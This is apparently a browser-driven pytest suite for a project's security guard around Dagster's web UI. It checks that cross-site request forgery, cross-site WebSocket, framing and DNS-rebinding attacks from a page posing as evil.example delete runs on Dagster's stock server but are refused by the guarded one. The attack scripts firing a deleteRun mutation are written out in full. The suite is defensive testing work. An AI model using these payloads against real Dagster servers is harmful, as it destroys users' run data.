"""Attacks of other web pages on the UI, in a real browser.

They work on Dagster's own web server, and are refused by ours.
"""

import threading
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from urllib.parse import quote
from uuid import uuid4

import dagster as dg
import uvicorn
from browser import Browser, Page, running_browser, wait_for
from dagster._core.workspace.context import WorkspaceProcessContext
from dagster._core.workspace.load_target import EmptyWorkspaceTarget
from dagster_webserver.app import create_app_from_workspace_process_context
from prelude import Any, Iterator, json, pytest
from served import served_folder

from pipeline_defs.commands.look.ui import guarded_app, listen
from pipeline_defs.commands.look.ui_guard import hosts_of

pytestmark = pytest.mark.slow

MUTATION = 'mutation { deleteRun(runId: "%s") { __typename } }'
# Scripts by which a page deletes a run: `link` has the mutation in its query string.
ATTACKS = {
    "image": "new Promise(done => { const i = new Image(); i.onerror = done; i.src = link })",
    "script": """new Promise(done => {
        const script = document.createElement("script");
        script.onload = script.onerror = () => done(); script.src = link;
        document.head.append(script);
    })""",
    "fetch by GET": "fetch(link, {mode: 'no-cors'})",
    "form": """new Promise(done => {
        const frame = document.createElement("iframe"), form = document.createElement("form");
        frame.name = form.target = "sink"; form.method = "post"; form.action = link;
        document.body.append(frame, form); frame.onload = () => done(); form.submit();
    })""",
    "multipart": "fetch(link, {method: 'POST', mode: 'no-cors', body: new FormData()})",
    "empty POST": "fetch(link, {method: 'POST', mode: 'no-cors'})",
    # A type that needs no preflight, and in which Dagster finds "application/json".
    "plain text": """fetch(endpoint, {method: 'POST', mode: 'no-cors', body: body,
        headers: {'Content-Type': 'text/plain; application/json'}})""",
}
SOCKET = """new Promise(done => {
    const socket = new WebSocket(endpoint.replace("http", "ws"), "graphql-ws");
    socket.onopen = () => socket.send('{"type": "connection_init"}');
    socket.onmessage = message => done(message.data);
    socket.onerror = () => done("closed");
})"""
FRAME = """new Promise(done => {
    const frame = document.createElement("iframe"); frame.src = endpoint;
    frame.onload = () => done(); document.body.append(frame);
})"""
SAME_ORIGIN = """fetch("/graphql", {method: "POST", body: body,
    headers: {"Content-Type": "application/json"}}).then(answer => answer.text())"""


@dataclass(frozen=True)
class Site:
    """Two servers over one instance, and a browser with a page of another origin."""

    instance: dg.DagsterInstance
    browser: Browser
    foreign: Page
    ports: dict[str, int]

    def new_run(self) -> str:
        """A run to be deleted."""
        return self.instance.add_run(dg.DagsterRun("some_job", run_id=str(uuid4()))).run_id

    def attack(self, server: str, script: str, run: str = "", page: Page | None = None) -> Any:
        """Run a script in the foreign page (or another), against a server."""
        endpoint = f"http://127.0.0.1:{self.ports[server]}/graphql"
        mutation = MUTATION % run
        values = [endpoint, f"{endpoint}?query={quote(mutation)}", json.dumps({"query": mutation})]
        arguments = ", ".join(map(json.dumps, values))
        (page or self.foreign).run("void (document.body.innerHTML = '')")
        called = f"(async (endpoint, link, body) => {script})({arguments})"
        return (page or self.foreign).run(f"{called}.catch(error => `${{error}}`)")


@contextmanager
def serving(app: Any, bound: Any) -> Iterator[None]:
    """Serve an application on a bound socket, in a thread."""
    server = uvicorn.Server(uvicorn.Config(app, log_level="critical"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [bound]})
    thread.start()
    try:
        wait_for(lambda: server.started)
        yield
    finally:
        server.should_exit = True
        thread.join()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Start Dagster's server, ours, a foreign page's, and the browser."""
    folder = tmp_path_factory.mktemp("site")
    (folder / "index.html").write_text("<title>another page</title>")
    with ExitStack() as stack:
        instance = stack.enter_context(
            dg.DagsterInstance.local_temp(str(folder), {"telemetry": {"enabled": False}})
        )
        target = EmptyWorkspaceTarget()
        context = stack.enter_context(WorkspaceProcessContext(instance, target, version=""))
        ports = {}
        for name in ("plain", "guarded"):
            bound = stack.enter_context(listen(0))
            ports[name] = bound.getsockname()[1]
            app = (
                create_app_from_workspace_process_context(context)
                if name == "plain"
                else guarded_app(context, hosts_of([], ports[name]))
            )
            stack.enter_context(serving(app, bound))
        elsewhere = stack.enter_context(served_folder(folder))
        browser = stack.enter_context(running_browser(folder / "profile"))
        foreign = browser.open(f"{elsewhere.replace('127.0.0.1', 'evil.example')}/")
        yield Site(instance, browser, foreign, ports)


@pytest.mark.parametrize("attack", ATTACKS)
def test_another_page_deletes_a_run_through_dagsters_own_server_only(
    site: Site, attack: str
) -> None:
    runs = {server: site.new_run() for server in site.ports}
    for server, run in runs.items():
        site.attack(server, ATTACKS[attack], run)
    left = {server for server, run in runs.items() if site.instance.has_run(run)}
    assert left == {"guarded"}


def test_another_page_cannot_open_a_web_socket(site: Site) -> None:
    assert "connection_ack" in site.attack("plain", SOCKET)
    assert site.attack("guarded", SOCKET) == "closed"


@pytest.mark.parametrize(("server", "shown"), [("plain", "200"), ("guarded", "0")])
def test_only_dagsters_own_server_is_shown_in_a_frame(site: Site, server: str, shown: str) -> None:
    site.attack(server, FRAME)
    (frame,) = site.browser.frames()
    status = "String(performance.getEntriesByType('navigation')[0].responseStatus)"
    assert frame.run(f"location.protocol == 'chrome-error:' ? '0' : {status}") == shown


@pytest.mark.parametrize(
    ("server", "answer"),
    [("plain", "DeletePipelineRunSuccess"), ("guarded", "Refused: the header Host is 'evil")],
)
def test_a_rebound_name_reaches_dagsters_own_server_only(
    site: Site, server: str, answer: str
) -> None:
    run = site.new_run()
    page = site.browser.open(f"http://evil.example:{site.ports[server]}/server_info")
    assert answer in site.attack(server, SAME_ORIGIN, run, page)
    assert site.instance.has_run(run) == (server == "guarded")


def test_a_page_of_the_ui_may_do_everything(site: Site) -> None:
    run = site.new_run()
    for name in ("127.0.0.1", "localhost"):
        page = site.browser.open(f"http://{name}:{site.ports['guarded']}/server_info")
        assert site.attack("guarded", SAME_ORIGIN, run, page).startswith('{"data"')
        socket = SOCKET.replace("endpoint", 'location.origin + "/graphql"', 1)
        assert "connection_ack" in site.attack("guarded", socket, page=page)
    assert not site.instance.has_run(run)


def test_a_link_of_another_page_opens_the_ui(site: Site) -> None:
    link = f"http://127.0.0.1:{site.ports['guarded']}/runs"
    page = site.browser.open(site.foreign.run("location.href"))
    page.run(f"void location.assign('{link}')")
    wait_for(lambda: page.run("location.href") == link and "Runs" in page.run("document.title"))
